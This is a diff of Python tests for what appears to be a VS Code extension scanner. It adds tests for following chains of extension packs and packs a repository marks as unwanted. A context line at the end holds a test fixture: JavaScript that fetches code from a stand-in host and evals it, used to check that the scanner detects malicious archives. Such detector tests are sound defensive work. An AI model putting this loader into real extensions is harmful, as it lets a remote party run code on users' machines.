@@ -153,6 +153,37 @@ def test_what_a_pack_brings_along_is_followed_if_asked_for(tmp_path: Path) -> No
     assert followed.code == 3
 
 
+def test_a_chain_of_packs_is_followed_to_its_end(tmp_path: Path) -> None:
+    names = [f"acme.pack-{number}" for number in range(6)]
+    table = [
+        Published(name, "1.0.0", archive(name, extensionPack=[after]), pack=(after,))
+        for name, after in zip(names, [*names[1:], "acme.leaf"], strict=True)
+    ]
+    with Registry([*table, published("acme.leaf")]) as registry:
+        for _ in range(2):
+            done = named(tmp_path, names[0], url=registry.gallery_url, VSCAN_FOLLOW_PACKS="1")
+            found = {each["id"]: each["fetched"] is not None for each in done.report["extensions"]}
+            assert found == dict.fromkeys([*names, "acme.leaf"], True)
+            assert done.code == 0
+
+
+def test_what_a_file_refuses_is_followed_all_the_same(tmp_path: Path) -> None:
+    place = tmp_path / "repo" / ".vscode"
+    place.mkdir(parents=True)
+    (place / "extensions.json").write_text(
+        '{"recommendations": ["acme.pack"], "unwantedRecommendations": ["acme.leaf"]}', "utf-8"
+    )
+    pack_ = Published(
+        "acme.pack", "1.0.0", archive("acme.pack", extensionPack=["acme.leaf"]), pack=("acme.leaf",)
+    )
+    with Registry([pack_, published("acme.leaf")]) as registry:
+        options = {"url": registry.gallery_url}
+        plain = named(tmp_path, "repo", **options)
+        followed = named(tmp_path, "repo", **options, VSCAN_FOLLOW_PACKS="1")
+    assert "not judged (--follow-packs): acme.leaf" in plain.err
+    assert {each["id"] for each in followed.report["extensions"]} == {"acme.pack", "acme.leaf"}
+
+
 def test_a_malicious_archive_is_found(tmp_path: Path) -> None:
     code = "const cp=require('child_process');fetch('https://a.invalid').then(r=>r.text()).then(t=>eval(t));"
     path = pack(tmp_path, "acme.evil", files={"main.js": code.encode()})
